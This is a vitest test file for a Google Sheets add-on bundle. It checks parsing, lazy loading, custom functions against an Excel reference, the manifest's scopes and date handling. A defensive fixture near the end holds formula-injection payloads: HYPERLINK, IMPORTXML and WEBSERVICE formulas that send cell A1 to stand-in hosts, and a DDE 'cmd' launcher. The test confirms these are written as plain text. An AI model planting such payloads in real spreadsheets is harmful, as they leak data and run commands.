/**
 * dist/gas/Code.js as Apps Script sees it: one classic script in one global scope. It is built
 * once (node scripts/build-gas.mjs --check), then loaded into fresh node:vm contexts, and every
 * custom function is called with Sheets-shaped arguments and compared with the core's own answer
 * for Excel-shaped arguments (tests/shared/host-cases.ts).
 */
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import vm from 'node:vm';
import { beforeAll, describe, expect, it } from 'vitest';
import { invokeSafely } from '../../src/core/functions/invoke';
import { FUNCTIONS, FUNCTION_LIST } from '../../src/core/functions/table';
import { documented } from '../../src/core/functions/help';
import { longestHelpTexts, telltale } from '../shared/help-texts';
import { serialToIso, type CellArg } from '../../src/core/cells';
import { genericCases, HOST_CASES, sheetsDate, toExcelArgs, toSheetsArgs, type HostCase } from '../shared/host-cases';
import { MENU_ITEMS, menuItems } from '../../gas/server/menu';
import { SERVER_ENDPOINT_NAMES } from '../../gas/shared/protocol';
import { BUTTON, BUTTON_SET, FakeUtilities, fakeServices } from './fake-spreadsheet-app';
import { sampleReview } from '../../src/core/review/sample';
import { DEFAULT_SCALE } from '../../src/core/scale/registry';
import { readScoreSheet, scoreSheetPlan } from '../../src/core/sheets/score-sheet';
import { buildCode, PACKED_PARTS, PACKED_SCALE_TEXTS } from '../../scripts/build-gas.mjs';

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const CODE = path.join(ROOT, 'dist/gas/Code.js');

let code = '';
let checkOutput = '';
/** The parts of Code.js as they are evaluated, and the modules the packed parts take from the functions part. */
let parts: { name: string; text: string }[] = [];
let shared: string[] = [];

beforeAll(async () => {
  checkOutput = execFileSync(process.execPath, [path.join(ROOT, 'scripts/build-gas.mjs'), '--check'], {
    cwd: ROOT,
    encoding: 'utf8',
  });
  code = readFileSync(CODE, 'utf8');
  ({ parts, shared } = await buildCode());
}, 120_000);

/** A fresh Apps Script-like global scope: ECMAScript built-ins, console, and whatever is given. */
function load(globals: Record<string, unknown> = {}): vm.Context {
  const context = vm.createContext({ console, ...globals });
  new vm.Script(code, { filename: 'Code.js' }).runInContext(context);
  return context;
}

type Outcome = { ok: true; json: string } | { ok: false; message: string; name?: string };

/** A Date from any realm, as the yyyy-mm-dd it shows in the test runtime's zone (standing in for the sheet's). */
function shownDate(value: unknown): { date: string } | undefined {
  if (Object.prototype.toString.call(value) !== '[object Date]') return undefined;
  const date = value as Date;
  const pad = (n: number) => String(n).padStart(2, '0');
  const midnight =
    date.getHours() === 0 && date.getMinutes() === 0 && date.getSeconds() === 0 && date.getMilliseconds() === 0;
  return {
    date: `${date.getFullYear()}-${pad(date.getMonth() + 1)}-${pad(date.getDate())}${midnight ? '' : ' (not at midnight)'}`,
  };
}

function callSheets(context: vm.Context, name: string, args: unknown[]): Outcome {
  const fn = context[`IPS_${name}`] as (...a: unknown[]) => unknown;
  try {
    const value = fn(...args);
    return { ok: true, json: JSON.stringify(shownDate(value) ?? value) };
  } catch (error) {
    const e = error as { message?: unknown; name?: unknown };
    return { ok: false, message: String(e.message), name: String(e.name) };
  }
}

function callReference(testCase: HostCase): Outcome & { code?: string } {
  const spec = FUNCTIONS[testCase.fn]!;
  const outcome = invokeSafely(spec, toExcelArgs(spec.parameters, testCase.args) as CellArg[]);
  if (!outcome.ok) return { ok: false, message: outcome.message, code: outcome.code };
  // A date result is a serial day in the core and Excel; Sheets must answer with a Date showing that day.
  const value =
    spec.result.kind === 'date' && typeof outcome.value === 'number'
      ? { date: serialToIso(outcome.value) }
      : outcome.value;
  return { ok: true, json: JSON.stringify(value) };
}

function jsdocBefore(name: string): string {
  const at = code.indexOf(`\nfunction ${name}(`);
  if (at < 0) return '';
  const start = code.lastIndexOf('/**', at);
  const end = code.lastIndexOf('*/', at);
  return start >= 0 && end > start && code.slice(end + 2, at).trim() === '' ? code.slice(start, end + 2) : '';
}

describe('Code.js is a script Apps Script accepts', () => {
  it('parses as a classic script without import, export or require', () => {
    expect(() => new vm.Script(code, { filename: 'Code.js' })).not.toThrow();
    expect(code).not.toMatch(/^\s*(import|export)\s/m);
    expect(code).not.toMatch(/(^|[^.\w$])require\s*\(/);
    expect(code.slice(0, 400)).toContain('@OnlyCurrentDoc');
    expect(code).toMatch(/^function ipsFunctions_\(\) \{/m);
    // Each part keeps strict mode: "use strict" is the first statement of the function that runs it.
    for (const { name, text } of parts) {
      expect(text, name).toMatch(/^\(function \((ipsShared)?\) \{\n"use strict";var IPS=/);
      expect(() => new vm.Script(text, { filename: name }), name).not.toThrow();
      expect(text, name).not.toMatch(/^\s*(import|export)\s/m);
    }
  });

  it('evaluates with nothing but ECMAScript built-ins and console (no DOM, Node or timers)', () => {
    const context = load();
    const functions = (context['ipsFunctions_'] as () => Record<string, unknown>)();
    expect(typeof functions['customFunction']).toBe('function');
    expect((context['ipsFunctions_'] as () => unknown)()).toBe(functions);
    for (const part of PACKED_PARTS) {
      const ready = (context[part.ready] as () => Record<string, unknown>)();
      expect(
        Object.values(ready).some((value) => typeof value === 'function'),
        part.name,
      ).toBe(true);
      expect((context[part.ready] as () => unknown)(), part.name).toBe(ready);
    }
  });

  it('runs none of its code when evaluated (each IPS_* call is a fresh execution): only a call does', () => {
    // Every execution evaluates all of Code.js; the parts are text until a call needs one. A broken
    // Map shows whether any of it ran (the core builds maps at its top level).
    const bundleRan: string[] = [];
    const BrokenMap = function BrokenMap() {
      bundleRan.push('Map');
      throw new Error('the bundle ran');
    };
    const context = load({ Map: BrokenMap });
    expect(bundleRan).toEqual([]);
    expect(() => (context['IPS_ITEM'] as (item: number) => unknown)(1)).toThrow('the bundle ran');
    expect(bundleRan).not.toEqual([]);
  });

  it('makes ready only the part a call needs: an IPS_* call unpacks nothing, a text is unpacked when read', () => {
    const context = load();
    const unpacked: string[] = [];
    for (const name of [...PACKED_PARTS.map((part) => part.source), PACKED_SCALE_TEXTS]) {
      const held = context[name] as () => string;
      context[name] = () => (unpacked.push(name), held());
    }
    const call = (name: string, ...args: unknown[]) => (context[name] as (...a: unknown[]) => unknown)(...args);
    expect(call('IPS_CASELOAD', [[10], [12], [8]])).toBe(FUNCTIONS['CASELOAD']!.invoke([[10], [12], [8]]));
    expect(call('IPS_ITEM', 3)).toBe(DEFAULT_SCALE.items[2]!.name.nb);
    expect(unpacked).toEqual([]);
    expect(call('IPS_ITEM', 3, 4)).toContain(DEFAULT_SCALE.items[2]!.anchors[3].nb);
    expect(call('IPS_ANCHOR', 1, 5, 'en')).toEqual([[DEFAULT_SCALE.items[0]!.anchors[4].en]]);
    expect(unpacked).toEqual([PACKED_SCALE_TEXTS]);
  });

  it('is minified, with the source map of each part kept outside dist/gas (clasp pushes only Code.js, Sidebar.html, appsscript.json)', () => {
    for (const { name, text } of parts) {
      const mapText = readFileSync(path.join(ROOT, 'dist/gas-map', `${name}.map`), 'utf8');
      const map = JSON.parse(mapText) as { file: string; sources: string[]; mappings: string };
      expect(map.file).toBe(name);
      expect(text).toContain(`//# sourceURL=${name}`);
      // The map's first mapped line is the bundle's first line in the part as it is evaluated.
      const firstMapped = map.mappings.split(';').findIndex((line) => line !== '');
      expect(text.split('\n')[firstMapped], name).toMatch(/^"use strict";var IPS=/);
      expect(text.length).toBeLessThan(mapText.length);
    }
    const functionsMap = JSON.parse(readFileSync(path.join(ROOT, 'dist/gas-map/ips-functions.js.map'), 'utf8')) as {
      sources: string[];
    };
    expect(functionsMap.sources.some((source) => source.endsWith('src/core/scale/registry.ts'))).toBe(true);
    // The scale's long texts are not code in any part: they are packed apart.
    const criterion = DEFAULT_SCALE.items[0]!.criterion.nb;
    for (const { name, text } of parts) expect(text, name).not.toContain(criterion.slice(0, 60));
    expect(code).not.toContain(criterion.slice(0, 60));
  });

  it('holds each module once: the packed parts take what they share with the functions part from it', () => {
    expect(shared).toContain('src/core/scale/registry.ts');
    const functionsMap = JSON.parse(readFileSync(path.join(ROOT, 'dist/gas-map/ips-functions.js.map'), 'utf8')) as {
      sources: string[];
    };
    const inFunctions = new Set(functionsMap.sources.map((source) => source.replace(/^(\.\.\/)+/, '')));
    for (const part of PACKED_PARTS) {
      const map = JSON.parse(readFileSync(path.join(ROOT, 'dist/gas-map', `${part.name}.map`), 'utf8')) as {
        sources: string[];
      };
      // What a part takes from the functions part is named by its path from the repository root.
      expect(map.sources.filter((source) => source.startsWith('functions-part:')).length, part.name).toBeGreaterThan(0);
      const twice = map.sources
        .map((source) => source.replace(/^(\.\.\/)+/, ''))
        .filter((source) => !source.startsWith('functions-part:') && inFunctions.has(source));
      expect(twice, part.name).toEqual([]);
    }
  });

  it('declares every server entry point as a top-level function', () => {
    const context = load();
    for (const name of [
      'onOpen',
      'onInstall',
      'showSidebar',
      ...MENU_ITEMS.map((item) => item.functionName),
      ...SERVER_ENDPOINT_NAMES,
    ]) {
      expect(code, name).toMatch(new RegExp(`^function ${name}\\(`, 'm'));
      expect(typeof context[name], name).toBe('function');
    }
  });

  it('has one IPS_<NAME> custom function with JSDoc per entry of FUNCTION_LIST, and no other', () => {
    const context = load();
    const declared = [...code.matchAll(/^function (IPS_[A-Z0-9_]+)\(/gm)].map((m) => m[1]);
    expect(declared).toEqual(FUNCTION_LIST.map((spec) => `IPS_${spec.name}`));
    for (const spec of FUNCTION_LIST.map(documented)) {
      const name = `IPS_${spec.name}`;
      expect(typeof context[name], name).toBe('function');
      expect((context[name] as (...a: unknown[]) => unknown).length, name).toBe(spec.parameters.length);
      const doc = jsdocBefore(name);
      expect(doc, name).toContain('@customfunction');
      expect(doc, name).toContain(spec.description.nb.slice(0, 40));
      expect(doc).toMatch(/@return \{[^}]+\}/);
      const params = [...doc.matchAll(/@param \{[^}]+\} (\S+) (.+)/g)].map((m) => m[1]);
      expect(params, name).toEqual(spec.parameters.map((p) => p.name));
      for (const parameter of spec.parameters) expect(doc).toContain(parameter.description.nb.slice(0, 30));
    }
  });

  it('the help texts are only in the JSDoc (in Norwegian): no part of Code.js carries them as code', () => {
    const { functions, parameters } = longestHelpTexts(3);
    for (const help of [...functions, ...parameters]) {
      const [nb, en] = [telltale(help.nb), telltale(help.en)];
      expect(Math.min(nb.length, en.length), `${help.nb} / ${help.en}`).toBeGreaterThanOrEqual(20);
      for (const { name, text } of parts) {
        expect(text, `${name}: ${nb}`).not.toContain(nb);
        expect(text, `${name}: ${en}`).not.toContain(en);
      }
      expect(code, en).not.toContain(en);
      expect(code, nb).toContain(nb);
    }
  });

  it('builds the add-on menu from onOpen, each item calling a global function', () => {
    const menus: [string, string][][] = [];
    const ui = {
      Button: BUTTON,
      ButtonSet: BUTTON_SET,
      createAddonMenu() {
        const items: [string, string][] = [];
        menus.push(items);
        const api = {
          addItem: (label: string, fn: string) => (items.push([label, fn]), api),
          addSeparator: () => api,
          addToUi: () => undefined,
        };
        return api;
      },
    };
    const context = load({ SpreadsheetApp: { getUi: () => ui }, HtmlService: {}, Utilities: {} });
    (context['onOpen'] as (e: unknown) => void)({ authMode: 'LIMITED' });
    expect(menus).toHaveLength(1);
    // No Session here: the user's locale cannot be read, so the captions are bilingual.
    expect(menus[0]!.map(([label]) => label)).toEqual(menuItems('both').map((item) => item.caption));
    for (const [, fn] of menus[0]!) expect(typeof context[fn], fn).toBe('function');
  });

  it('--check lists exactly what clasp push would push, with sizes', () => {
    const listing = JSON.parse(checkOutput.slice(checkOutput.indexOf('{'))) as {
      files: { file: string; remote: string; type: string; bytes: number; gzip: number }[];
      customFunctions: string[];
    };
    expect(listing.files.map((f) => [f.file, f.remote, f.type])).toEqual([
      ['Code.js', 'Code', 'SERVER_JS'],
      ['Sidebar.html', 'Sidebar', 'HTML'],
      ['appsscript.json', 'appsscript', 'JSON'],
    ]);
    expect(listing.customFunctions).toEqual(FUNCTION_LIST.map((spec) => `IPS_${spec.name}`));
    for (const f of listing.files) console.log(`[gas] ${f.file}: ${f.bytes} bytes, ${f.gzip} gzip`);
  });

  it('ships a manifest with V8 and exactly the two scopes', () => {
    const manifest = JSON.parse(readFileSync(path.join(ROOT, 'dist/gas/appsscript.json'), 'utf8'));
    expect(manifest).toMatchObject({ runtimeVersion: 'V8', timeZone: 'Europe/Oslo', exceptionLogging: 'STACKDRIVER' });
    expect(manifest.oauthScopes).toEqual([
      'https://www.googleapis.com/auth/spreadsheets.currentonly',
      'https://www.googleapis.com/auth/script.container.ui',
    ]);
    expect(JSON.stringify(manifest)).not.toMatch(/urlFetch|external_request|webapp/i);
  });
});

describe('the shared host cases', () => {
  it('are uniquely named, call known functions, and cover every function', () => {
    const names = HOST_CASES.map((c) => c.name);
    expect(new Set(names).size).toBe(names.length);
    for (const c of HOST_CASES) expect(FUNCTIONS[c.fn], c.name).toBeDefined();
    for (const spec of FUNCTION_LIST)
      expect(
        HOST_CASES.some((c) => c.fn === spec.name),
        spec.name,
      ).toBe(true);
  });

  it.each(HOST_CASES.filter((c) => c.expect).map((c) => [c.name, c] as const))(
    'the reference answers as the manual says: %s',
    (_, testCase) => {
      const reference = callReference(testCase);
      const expected = testCase.expect!;
      if ('value' in expected) expect(reference).toEqual({ ok: true, json: JSON.stringify(expected.value) });
      else if ('date' in expected)
        expect(reference).toEqual({ ok: true, json: JSON.stringify({ date: expected.date }) });
      else {
        expect(reference.ok).toBe(false);
        expect((reference as { code: string }).code).toBe(expected.error);
        if (expected.includes) expect((reference as { message: string }).message).toContain(expected.includes);
      }
    },
  );
});

describe('custom functions in Sheets answer exactly as the Excel adapter', () => {
  const cases = [...HOST_CASES, ...genericCases(FUNCTION_LIST)];
  let context: vm.Context;
  beforeAll(() => {
    context = load();
  });

  it.each(cases.map((c) => [c.name, c] as const))('%s', (_, testCase) => {
    const reference = callReference(testCase);
    const sheets = callSheets(context, testCase.fn, toSheetsArgs(testCase.args));
    if (reference.ok) expect(sheets).toEqual({ ok: true, json: reference.json });
    else {
      // A plain Error (Sheets shows "Error: <message>"), with exactly the Excel adapter's message.
      expect(sheets).toEqual({ ok: false, message: reference.message, name: 'Error' });
    }
  });

  it('treats an omitted trailing argument, undefined and a blank cell alike', () => {
    const call = (...args: unknown[]) => callSheets(context, 'ITEM', args);
    const bare = call(19);
    expect(bare.ok).toBe(true);
    expect(call(19, undefined)).toEqual(bare);
    expect(call(19, '', '')).toEqual(bare);
    expect(call(19, undefined, undefined)).toEqual(bare);
    expect(call(19, '', undefined, 'extra ignored')).toEqual(bare);
  });

  it('returns a date result as a Date at midnight in the spreadsheet time zone', () => {
    const log: string[] = [];
    const zoned = load({
      SpreadsheetApp: { getActiveSpreadsheet: () => ({ getSpreadsheetTimeZone: () => 'Pacific/Auckland' }) },
      Utilities: new FakeUtilities(log),
    });
    // 2025-08-31 at midnight in Auckland (UTC+12) is 2025-08-30 12:00 UTC; six months on, 2026-02-28 at
    // midnight in Auckland (daylight saving, UTC+13) is 2026-02-27 11:00 UTC.
    const fn = zoned['IPS_NEXT_REVIEW'] as (...a: unknown[]) => unknown;
    const result = fn(new Date(Date.UTC(2025, 7, 30, 12)), 99) as Date;
    expect(Object.prototype.toString.call(result)).toBe('[object Date]');
    expect(result.toISOString()).toBe('2026-02-27T11:00:00.000Z');
  });

  it('reads date arguments in the spreadsheet time zone, not the script time zone', () => {
    // 2025-01-06 and 2025-01-13 at midnight in Auckland are the 5th and 12th at 11:00 UTC.
    const auckland = (y: number, m: number, d: number) => new Date(Date.UTC(y, m - 1, d - 1, 11, 0, 0));
    const log: string[] = [];
    const zoned = load({
      SpreadsheetApp: { getActiveSpreadsheet: () => ({ getSpreadsheetTimeZone: () => 'Pacific/Auckland' }) },
      Utilities: new FakeUtilities(log),
    });
    const args = [[['Jan']], [[auckland(2025, 1, 6)]], [[auckland(2025, 1, 13)]], undefined, undefined, 'metric'];
    const expected = callSheets(load(), 'DAYS_TO_EMPLOYER_CONTACT', [
      [['Jan']],
      [[sheetsDate('2025-01-06')]],
      [[sheetsDate('2025-01-13')]],
      undefined,
      undefined,
      'metric',
    ]);
    expect(expected).toEqual({ ok: true, json: '7' });
    expect(callSheets(zoned, 'DAYS_TO_EMPLOYER_CONTACT', args)).toEqual(expected);
    expect(log.length).toBeGreaterThan(0);
  });
});

describe('Code.js writes text as text (ipsWrite over SpreadsheetApp)', () => {
  const SHEET = 'IPS 2025-06-07';
  /** A review whose free text would be formulas if Sheets parsed it. */
  function hostileReview() {
    const review = sampleReview();
    review.service = '=1+1';
    review.team = '=HYPERLINK("http://evil/?"&A1,"klikk")';
    review.evaluators = "+cmd|' /C calc'!A0";
    const first = review.items[DEFAULT_SCALE.items[0]!.id]!;
    first.evidence = '=IMPORTXML("http://x/?"&A1,"//a")';
    first.recommendation = '=WEBSERVICE("http://x/?"&A1)';
    first.consensusNote = "'sitat";
    return review;
  }

  it('stores names, notes and recommendations as literal text and reads them back unchanged, formulas as formulas', () => {
    const services = fakeServices();
    const context = load({
      SpreadsheetApp: services.spreadsheetApp,
      HtmlService: services.htmlService,
      Utilities: services.utilities,
    });
    const review = hostileReview();
    // As google.script.run carries it: plain JSON.
    const plans = JSON.parse(JSON.stringify([scoreSheetPlan(review, { sheet: SHEET, language: 'nb' })]));
    (context['ipsWrite'] as (plans: unknown) => void)(plans);
    const sheet = services.book.sheet(SHEET)!;
    expect(sheet.at('C3')).toBe('=1+1');
    expect(sheet.isFormula('C3')).toBe(false);
    expect(sheet.isFormula('C4')).toBe(false);
    expect(sheet.isFormula('C6')).toBe(true); // the total
    const values = (context['ipsReadSheet'] as (name: string) => unknown[][])(SHEET);
    const back = readScoreSheet(JSON.parse(JSON.stringify(values)))!;
    expect([back.service, back.team, back.evaluators]).toEqual([review.service, review.team, review.evaluators]);
    const id = DEFAULT_SCALE.items[0]!.id;
    expect([back.items[id]!.evidence, back.items[id]!.recommendation, back.items[id]!.consensusNote]).toEqual([
      review.items[id]!.evidence,
      review.items[id]!.recommendation,
      review.items[id]!.consensusNote,
    ]);
  });

  it('refuses a formula cell that is not a formula object with text starting with "="', () => {
    const services = fakeServices();
    const context = load({
      SpreadsheetApp: services.spreadsheetApp,
      HtmlService: services.htmlService,
      Utilities: services.utilities,
    });
    const write = context['ipsWrite'] as (plans: unknown) => void;
    expect(() => write([{ sheet: 'X', blocks: [{ row: 0, column: 0, values: [[{ formula: 'SUM(1)' }]] }] }])).toThrow(
      /neither a value nor a formula/,
    );
    expect(() =>
      write([{ sheet: 'X', blocks: [{ row: 0, column: 0, values: [[{ formula: '=1', extra: 1 }]] }] }]),
    ).toThrow(/neither a value nor a formula/);
    expect(services.book.sheet('X')).toBeUndefined();
  });
});
